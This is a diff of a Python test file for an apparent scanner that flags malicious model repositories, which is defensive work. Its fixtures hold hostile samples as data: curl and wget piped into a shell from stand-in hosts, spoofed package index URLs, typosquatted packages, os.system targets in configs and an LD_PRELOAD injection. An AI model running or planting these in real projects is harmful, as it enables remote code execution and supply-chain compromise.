@@ -461,7 +461,7 @@ def test_models_side_by_side_are_judged_apart(tmp_path: Path) -> None:
         ("kernel.so", b"\x7fELF", UNREAD),
         ("requirements.txt", b"torch\nevil @ git+https://example.com/evil\n", ATTACK),
         ("requirements.txt", b"transformers @ git+https://github.com/huggingface/transformers\n", READER),
-        ("requirements.txt", b"--extra-index-url https://download.pytorch.org/whl/cu121\ntorch\n", READER),
+        ("requirements.txt", b"--extra-index-url https://download.pytorch.org/whl/cu121\ntorch\n", PLAIN),
         ("requirements.txt", b"--extra-index-url http://10.0.0.1/simple\ntorch\n", ATTACK),
         ("requirements.txt", b"transfomers==4.0\n", ATTACK),
         ("requirements.txt", b"torch==2.1\nscikit_learn\ndataset\n# transfomers\nscapy\n", PLAIN),
@@ -522,3 +522,79 @@ def test_configuration_inside_a_nemo_archive_is_read(
 
 def test_nemo_archive_that_is_none_is_not_readable(tmp_path: Path) -> None:
     assert verdicts(tmp_path, {"m.nemo": b"no archive"}) == {"m.nemo": UNREAD}
+
+
+@pytest.mark.parametrize(
+    "target",
+    ["nemo.utils.os.system", "torch.serialization.os.system", "builtins.__import__", "nemo.x.subprocess.run"],
+)
+def test_name_that_leads_through_a_known_package_is_an_attack(target: str, tmp_path: Path) -> None:
+    found = findings(tmp_path, {"config.yaml": f"a:\n  _target_: {target}\n".encode()})
+    assert [CHECK.verdict_of(each) for each in found] == [FileVerdict.ATTACK]
+
+
+def test_target_put_together_from_other_values_is_not_readable(tmp_path: Path) -> None:
+    found = findings(tmp_path, {"config.yaml": b"a:\n  _target_: ${x}\nx: os.system\n"})
+    assert [CHECK.verdict_of(each) for each in found] == [FileVerdict.NOT_READABLE]
+
+
+@pytest.mark.parametrize("loader", ["mlflow.sklearn", "mlflow.transformers", "mlflow.pyfunc.model"])
+def test_loaders_of_mlflow_itself_pass(loader: str, tmp_path: Path) -> None:
+    text = f"flavors:\n  python_function:\n    loader_module: {loader}\n  x:\n    code: null\n"
+    assert [each.outcome for each in findings(tmp_path, {"MLmodel": text.encode()})] == [Outcome.PASS]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--extra-index-url https://download.pytorch.org/whl/cu118",
+        "--index-url https://pypi.org/simple",
+        "-f https://download.pytorch.org/whl/torch_stable.html",
+    ],
+)
+def test_indexes_of_the_makers_pass(line: str, tmp_path: Path) -> None:
+    found = findings(tmp_path, {"requirements.txt": f"{line}\ntorch\n".encode()})
+    assert [each.outcome for each in found] == [Outcome.PASS]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--index-url https://pypi.org@evil.example/simple",
+        "--index-url http://pypi.org/simple",
+        "--extra-index-url https://download.pytorch.org.evil.example/whl",
+    ],
+)
+def test_address_that_looks_like_an_index_of_the_makers_fails(line: str, tmp_path: Path) -> None:
+    assert failed(findings(tmp_path, {"requirements.txt": f"{line}\ntorch\n".encode()}), "requirement")
+
+
+@pytest.mark.parametrize(
+    "cell", ["!curl http://x.example/a.sh | sh", "%%bash\nwget http://x.example/a -O- | bash"]
+)
+def test_notebook_that_pipes_unprotected_text_into_a_shell_is_an_attack(cell: str, tmp_path: Path) -> None:
+    book = json.dumps({"cells": [{"cell_type": "code", "source": [cell]}]}).encode()
+    found = findings(tmp_path, {"demo.ipynb": book})
+    assert FileVerdict.ATTACK in {CHECK.verdict_of(each) for each in found}
+
+
+def test_notebook_that_installs_by_a_script_of_its_makers_is_to_be_read(tmp_path: Path) -> None:
+    source = ["!curl -fsSL https://ollama.com/install.sh | sh"]
+    book = json.dumps({"cells": [{"cell_type": "code", "source": source}]}).encode()
+    found = findings(tmp_path, {"demo.ipynb": book})
+    assert {CHECK.verdict_of(each) for each in found} == {FileVerdict.NEEDS_CLASS_INSTANCE}
+
+
+def test_library_loaded_into_every_program_is_an_attack(tmp_path: Path) -> None:
+    source = b"import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\n"
+    found = findings(tmp_path, {"config.json": assets.auto_map(), "modeling_x.py": source})
+    assert failed(found, "persistence")
+
+
+def test_class_that_derives_from_a_program_starter_is_an_attack(tmp_path: Path) -> None:
+    source = b"import subprocess\nclass P(subprocess.Popen):\n    pass\nP('x')\n"
+    found = findings(tmp_path, {"config.json": assets.auto_map(), "modeling_x.py": source})
+    assert failed(found, "process")
+    honest = b"import subprocess\nclass E(subprocess.CalledProcessError):\n    pass\n"
+    found = findings(tmp_path / "b", {"config.json": assets.auto_map(), "modeling_x.py": honest})
+    assert not failed(found, "process")
